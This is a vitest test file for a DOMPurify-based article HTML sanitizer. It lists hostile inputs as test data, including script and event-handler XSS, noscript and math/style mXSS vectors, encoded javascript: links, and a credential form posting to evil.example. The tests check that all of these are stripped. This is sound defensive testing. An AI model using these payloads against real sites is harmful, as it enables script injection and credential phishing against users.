/**
 * The reader's only door for page HTML. Every payload is checked twice: for its specific effect, and against the
 * invariants any output must meet (no active elements, no handlers, no styles, only safe absolute URLs).
 */
import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml } from '../../src/reader/sanitize';

const BASE = 'http://127.0.0.1/news/item.html';
const { window } = new JSDOM('<!DOCTYPE html><html><body></body></html>', { url: 'http://127.0.0.1/reader.html' });

const FORBIDDEN =
  'script, style, link, meta, base, iframe, frame, object, embed, form, input, button, select, textarea, svg, math, template, video, audio';

function parse(html: string): Element {
  return JSDOM.fragment(`<div>${html}</div>`).firstElementChild as Element;
}

function assertSafe(html: string): void {
  const root = parse(html);
  expect(root.querySelector(FORBIDDEN), html).toBeNull();
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const { name, value } of Array.from(el.attributes)) {
      expect(name.startsWith('on'), `${name} on <${el.tagName}>`).toBe(false);
      expect(['style', 'class', 'target', 'action', 'formaction', 'srcset'], `${name} on <${el.tagName}>`).not.toContain(name);
      expect(name.startsWith('data-'), name).toBe(false);
      if (name === 'href') expect(value).toMatch(/^(#|https?:\/\/|mailto:|tel:|ftp:\/\/)/);
      if (name === 'src') expect(value).toMatch(/^(https?:\/\/|data:image\/)/);
    }
    if (el.hasAttribute('href')) expect(el.getAttribute('rel')).toBe('noopener noreferrer');
  }
}

const sanitize = (html: string) => {
  const out = sanitizeArticleHtml(html, BASE, window);
  assertSafe(out);
  return out;
};

describe('sanitizeArticleHtml: hostile input', () => {
  it.each([
    ['script tag', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
    ['script with odd casing and attributes', '<p>a</p><ScRiPt src="https://evil.example/x.js"></ScRiPt>', '<p>a</p>'],
    ['img onerror', '<img src="x.png" onerror="alert(1)" alt="A">', '<img src="http://127.0.0.1/news/x.png" alt="A">'],
    ['onclick on text', '<p onclick="alert(1)" onmouseover="alert(2)">hi</p>', '<p>hi</p>'],
    ['svg onload', '<p>a</p><svg onload="alert(1)"><circle r="4"/></svg>', '<p>a</p>'],
    ['iframe', '<p>a</p><iframe src="https://evil.example/"></iframe>', '<p>a</p>'],
    ['object and embed', '<object data="https://evil.example/x.swf"><p>fallback</p></object><embed src="https://evil.example/x.swf">', ''],
    ['style attribute', '<p style="position:fixed;inset:0;background:url(https://evil.example/t)">hi</p>', '<p>hi</p>'],
    [
      'style element and stylesheet link',
      '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css"><p>a</p>',
      '<p>a</p>',
    ],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>a</p>', '<p>a</p>'],
    [
      'base element',
      '<base href="https://evil.example/"><a href="x">x</a>',
      '<a href="http://127.0.0.1/news/x" rel="noopener noreferrer">x</a>',
    ],
    [
      'noscript mXSS (the attribute smuggling a closing tag is dropped)',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      '<p></p>',
    ],
    ['math/style namespace confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
    ['data attributes and classes', '<p data-track="1" class="lead" id="intro">a</p>', '<p id="intro">a</p>'],
  ])('%s', (_name, input, expected) => {
    expect(sanitize(input)).toBe(expected);
  });

  it('removes forms and every control, including the text of buttons and options', () => {
    const out = sanitize(`<form action="https://evil.example/steal" method="post"><p>Your details</p>
      <label>Password <input type="password" name="pw"></label><select name="s"><option>Option A</option></select>
      <textarea>typed</textarea><button formaction="https://evil.example/">Send</button><input type="submit" value="Go"></form>`);
    expect(out).not.toMatch(/<(form|input|button|select|option|textarea|label)\b/);
    expect(out).not.toMatch(/Send|Option A|typed|Go/);
    expect(out).toContain('<p>Your details</p>');
  });

  it.each([
    ['plain', 'javascript:alert(1)'],
    ['mixed case', 'JaVaScRiPt:alert(1)'],
    ['decimal entities', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'],
    ['hex entities', '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)'],
    ['named colon entity', 'javascript&colon;alert(1)'],
    ['tab inside', 'java&#x09;script:alert(1)'],
    ['newline inside', 'java\nscript:alert(1)'],
    ['leading spaces and control character', ' \u0001javascript:alert(1)'],
    ['vbscript', 'vbscript:msgbox(1)'],
    ['data: HTML', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ])('link to %s is disarmed and keeps its text', (_name, href) => {
    const out = sanitize(`<a href="${href}">click</a>`);
    expect(out).toBe('<a>click</a>');
  });

  it('allows data: URLs for images only, and only image types', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(sanitize(`<img src="${png}" alt="dot">`)).toBe(`<img src="${png}" alt="dot">`);
    expect(sanitize('<img src="data:text/html,<script>alert(1)</script>" alt="x">')).toBe('<img alt="x">');
    expect(sanitize('<img srcset="javascript:alert(1) 1x, x.png 2x" src="a.png" alt="">')).toBe(
      '<img src="http://127.0.0.1/news/a.png" alt="">',
    );
  });

  it('opens links normally: no target, always rel="noopener noreferrer"', () => {
    expect(sanitize('<a href="https://example.org/" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://example.org/" rel="noopener noreferrer">x</a>',
    );
    expect(sanitize('<a href="mailto:press@example.org">mail</a>')).toBe(
      '<a href="mailto:press@example.org" rel="noopener noreferrer">mail</a>',
    );
  });
});

describe('sanitizeArticleHtml: reading content survives', () => {
  it('keeps ruby with rb, rt and rp', () => {
    const ruby = '<p><ruby><rb>東京</rb><rp>(</rp><rt>とうきょう</rt><rp>)</rp></ruby>と<ruby>大阪<rtc><rt>おおさか</rt></rtc></ruby></p>';
    expect(sanitize(ruby)).toBe(ruby);
  });

  it('keeps tables with caption, header cells and spans', () => {
    const table =
      '<table><caption>表1　補助の概要</caption><thead><tr><th scope="col">区分</th><th scope="col" colspan="2">補助率</th></tr></thead>' +
      '<tbody><tr><th scope="row">中小企業</th><td>2分の1</td><td rowspan="1">1,000万円</td></tr></tbody></table>';
    expect(sanitize(table)).toBe(table);
  });

  it('keeps figures, images with alt, headings with their ids, lists, code, quotes and time', () => {
    const html =
      '<h2 id="easyread-h-1">Background</h2><h3 id="easyread-h-2">Costs</h3>' +
      '<figure><img src="https://example.org/chart.png" alt="Bar chart of opening hours" width="320" height="120"><figcaption>Opening hours</figcaption></figure>' +
      '<ol start="3"><li>three</li><li>four</li></ol><ul><li>item</li></ul><dl><dt>Term</dt><dd>Definition</dd></dl>' +
      '<pre><code>const x = 1 &lt; 2;</code></pre><blockquote cite="https://example.org/source"><p>Quoted</p></blockquote>' +
      '<p>Published <time datetime="2017-12-15">December 15, 2017</time>, <span lang="ja">日本語</span>, <abbr title="Intellectual Property">IP</abbr>.</p>';
    expect(sanitize(html)).toBe(html);
  });

  it('makes relative links and images absolute, and leaves in-reader links alone', () => {
    const out = sanitize(
      '<a href="../docs/a.pdf">PDF</a> <a href="/about">About</a> <a href="?page=2">Next</a> <a href="#easyread-h-1">Back</a> <img src="img/a.png" alt="">',
    );
    expect(out).toBe(
      '<a href="http://127.0.0.1/docs/a.pdf" rel="noopener noreferrer">PDF</a> <a href="http://127.0.0.1/about" rel="noopener noreferrer">About</a> ' +
        '<a href="http://127.0.0.1/news/item.html?page=2" rel="noopener noreferrer">Next</a> <a href="#easyread-h-1" rel="noopener noreferrer">Back</a> ' +
        '<img src="http://127.0.0.1/news/img/a.png" alt="">',
    );
  });
});

describe('sanitizeArticleHtml: DOMPurify source', () => {
  it('accepts a DOMPurify instance as well as a window', () => {
    const purify = createDOMPurify(window);
    expect(sanitizeArticleHtml('<p onclick="x()">a</p>', BASE, purify)).toBe('<p>a</p>');
    // No hooks or config left behind on a shared instance.
    expect(purify.sanitize('<p class="kept">a</p>')).toBe('<p class="kept">a</p>');
  });

  it('refuses to run where DOMPurify has no DOM (it would return its input unchanged)', () => {
    // The module's default export in Node, where there is no window.
    expect(createDOMPurify.isSupported).toBe(false);
    expect(() => sanitizeArticleHtml('<script>alert(1)</script>', BASE, createDOMPurify)).toThrow(/not supported/);
  });
});
